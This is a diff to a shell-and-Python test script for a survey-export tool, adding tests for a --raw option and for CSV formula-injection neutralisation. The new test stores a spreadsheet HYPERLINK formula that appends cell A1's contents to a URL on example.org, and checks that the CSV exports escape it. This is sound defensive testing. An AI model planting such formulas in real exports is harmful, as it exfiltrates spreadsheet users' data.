@@ -42,6 +42,9 @@ has "names the unknown format" "$tmp/err.txt" "unknown format.*'xml'"
 export_ --format json --bom 2> "$tmp/err.txt"
 check "export --format json --bom" 2 $?
 has "says the BOM is for CSV" "$tmp/err.txt" "--bom is for csv"
+export_ --format json --raw 2> "$tmp/err.txt"
+check "export --format json --raw" 2 $?
+has "says --raw is for CSV" "$tmp/err.txt" "--raw is for csv"
 export_ --format csv --sheet 2> "$tmp/err.txt"
 check "export with an unknown option" 2 $?
 export_ --format csv --out 2> "$tmp/err.txt"
@@ -234,6 +237,49 @@ bom = open(tmp + "/out/bom.csv", "rb").read()
 assert bom == b"\xef\xbb\xbf" + raw, "--bom: the BOM, then the same bytes"
 assert open(tmp + "/out/bom-wide.csv", "rb").read()[:15] == b"\xef\xbb\xbfresponse_id,"
 print("ok: --bom")
+PY
+
+# A comment typed as a formula: neutralised with a leading ' in both CSV
+# formats unless --raw; JSON always carries it as typed.
+sqlite3 "$db" > "$tmp/sql.txt" 2>&1 <<SQL
+INSERT INTO response (id, kiosk_id, survey_id, survey_version, hour, language)
+  VALUES ('c4', 'kiosk-x', 'kiosk-feedback', 2, $h9 + 7200, 'de');
+INSERT INTO answer (response_id, position, question_id, value)
+  VALUES ('c4', 5, 'comment', '=HYPERLINK("http://example.org/?"&A1,"Klick")');
+SQL
+check "a formula written with sqlite3" 0 $?
+[ -s "$tmp/sql.txt" ] && cat "$tmp/sql.txt"
+for f in csv csv-wide; do
+	export_ --format "$f" > "$tmp/formula.$f"
+	check "export --format $f with a formula" 0 $?
+	export_ --format "$f" --raw > "$tmp/formula-raw.$f"
+	check "export --format $f --raw" 0 $?
+done
+export_ --format json > "$tmp/formula.json"
+check "export --format json with a formula" 0 $?
+python3 - "$tmp" <<'PY' || fails=$((fails + 1))
+import csv, io, json, sys
+tmp = sys.argv[1]
+typed = '=HYPERLINK("http://example.org/?"&A1,"Klick")'
+def rows(name):
+    return list(csv.reader(io.StringIO(open(tmp + "/" + name, "rb").read().decode("utf-8"),
+                                       newline="")))
+def comment(name):
+    r = rows(name)
+    if name.endswith("csv-wide"):
+        return dict(zip(r[0], [x for x in r if x[0] == "c4"][0]))["comment"]
+    return [x for x in r if x[0] == "c4" and x[6] == "comment"][0][8]
+for f in ("csv", "csv-wide"):
+    got = comment("formula." + f)
+    assert got == "'" + typed, (f, got)
+    got = comment("formula-raw." + f)
+    assert got == typed, (f, "--raw", got)
+    # Everything else is the same with and without --raw.
+    assert rows("formula." + f)[:-1] == rows("formula-raw." + f)[:-1], f
+print("ok: a formula is neutralised in csv and csv-wide, as typed with --raw")
+objs = [json.loads(l) for l in open(tmp + "/formula.json", encoding="utf-8")]
+assert [o for o in objs if o["response_id"] == "c4"][0]["answers"]["comment"] == typed
+print("ok: json carries the formula as typed")
 PY
 
 # A folder that cannot be written: exit 1, one clear message, the old file kept.
